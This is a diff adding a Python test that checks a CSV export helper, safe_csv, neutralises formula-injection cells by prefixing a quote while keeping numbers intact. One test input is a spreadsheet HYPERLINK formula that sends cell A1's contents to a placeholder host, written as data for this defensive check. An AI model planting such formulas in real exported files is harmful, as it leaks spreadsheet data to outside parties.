@@ -61,3 +61,21 @@ def test_safe_url(url, ok):
 def test_incident_href_keeps_filters_and_quotes_the_id():
     assert incident_href("INC-1", {"sev": "SEV1,SEV2"}) == "incident?id=INC-1&sev=SEV1,SEV2"
     assert incident_href("a b&c") == "incident?id=a%20b%26c"
+
+
+def test_csv_cells_that_start_like_a_formula_are_made_inert_and_numbers_stay_numbers():
+    import csv
+    import io
+
+    import pandas as pd
+
+    from pm_analytics.formatting import safe_csv
+
+    frame = pd.DataFrame({"title": ['=HYPERLINK("http://x/?"&A1,"open")', "+1", "-x", "@SUM(A1)", "\tpad", "\rcr",
+                                    "plain", None],
+                          "minutes": [-5.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, None],
+                          "count": pd.array([-1, 2, 3, 4, 5, 6, 7, None], dtype="Int64")})
+    rows = list(csv.DictReader(io.StringIO(safe_csv(frame).decode(), newline="")))
+    assert [r["title"] for r in rows] == ['\'=HYPERLINK("http://x/?"&A1,"open")', "'+1", "'-x", "'@SUM(A1)",
+                                          "'\tpad", "'\rcr", "plain", ""]
+    assert [r["minutes"] for r in rows][:2] == ["-5.0", "1.0"] and rows[0]["count"] == "-1"
